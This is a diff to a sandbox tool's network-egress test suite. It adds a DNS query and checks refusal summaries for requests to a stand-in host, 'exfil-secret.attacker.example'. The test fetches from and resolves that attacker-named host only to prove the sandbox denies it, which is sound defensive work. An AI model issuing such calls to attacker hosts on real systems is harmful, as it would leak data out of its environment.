@@ -571,6 +571,7 @@ c name.json http://exfil-secret.attacker.example:8080/x
 c port.json http://pkgs.example.com:8081/x
 c put.out -X PUT --data-binary @hello.out http://pkgs.example.com:8080/put
 c literal.json http://192.0.2.10:8080/x
+python3 "$2" 192.0.2.53 exfil-secret.attacker.example > dns.out 2>&1
 [ "$1" = full ] || exit 0
 git clone -q http://pkgs.example.com:8080/files/repo.git clone > git.out 2>&1; echo $? > git.rc
 python3 -m pip install -q --no-cache-dir --disable-pip-version-check --no-deps --target pipt \
@@ -609,15 +610,17 @@ def dns_http_egress(env):
                 json.dump(policy, f)
         env.chown_to_user(ws)
         r = env.gensee("run", "--sandbox", "linux", "--allow-net", "pkgs.example.com,tcp,8080",
-                       "--json", "--", "/bin/sh", "-c", HTTP_TOOLS, tag, mode, cwd=ws,
+                       "--json", "--", "/bin/sh", "-c", HTTP_TOOLS, tag, mode,
+                       env.tool("dnsclient.py"), cwd=ws,
                        env={"GENSEE_HOME": gh}, timeout=240)
         check(r.returncode == 0, "%s: rc %d %s\n%s" % (tag, r.returncode, r.stderr,
                                                       open(medlog).read()))
         rd = lambda n: open(os.path.join(ws, n)).read() if os.path.exists(os.path.join(ws, n)) \
             else None
-        return ws, rd, json.loads(r.stdout)["record"]["operation_id"]
+        out = json.loads(r.stdout)
+        return ws, rd, out["record"]["operation_id"], out
 
-    ws, rd, opid = run("full", "full")
+    ws, rd, opid, out = run("full", "full")
     check(rd("proxy.txt").startswith("http://gensee:") and rd("noproxy.txt").strip() ==
           "localhost,127.0.0.1,::1", "proxy variables: %r %r" % (rd("proxy.txt"),
                                                                 rd("noproxy.txt")))
@@ -662,12 +665,20 @@ def dns_http_egress(env):
           ("PUT", "http://pkgs.example.com:8080/put", "allowed") in http and
           ("GET", "http://exfil-secret.attacker.example:8080/x", "name_not_allowed") in http and
           ("GET", "http://pkgs.example.com:8081/x", "name_not_allowed") in http, "evidence: %r" % http)
+    # The run's summary explains each refusal once, with what would allow it.
+    why = {(x["kind"], x["what"]): x for x in out.get("refused", [])}
+    h = why.get(("http", "GET http://exfil-secret.attacker.example:8080/x"), {})
+    d = why.get(("dns", "DNS A exfil-secret.attacker.example"), {})
+    check(h.get("allow_with") == "--allow-net exfil-secret.attacker.example,tcp,8080" and
+          d.get("reason") == "name_not_allowed" and
+          d.get("allow_with", "").startswith("--allow-net exfil-secret.attacker.example,tcp,") and
+          "192.0.2.53" not in json.dumps(out.get("refused")), "refused: %r" % out.get("refused"))
     r = env.gensee("timeline", "--operation", opid)
     check("HTTP GET http://pkgs.example.com:8080/files/hello.txt -> allow (allowed)" in r.stdout and
           "HTTP GET http://pkgs.example.com:8081/x -> deny (name_not_allowed)" in r.stdout,
           "timeline: %s %s" % (r.stdout, r.stderr))
     # A policy that allows only GET: PUT is refused, and says which key allows it.
-    ws, rd, opid = run("narrow", "short", {"linux": {"network": {"http_methods": ["GET"]}}})
+    ws, rd, opid, out = run("narrow", "short", {"linux": {"network": {"http_methods": ["GET"]}}})
     body = json.loads(rd("put.out"))
     check(rd("put.out.code") == "403" and body["error"] == "method_not_allowed" and
           body["policy_key"] == "linux.network.http_methods", "PUT narrowed: %r" % body)
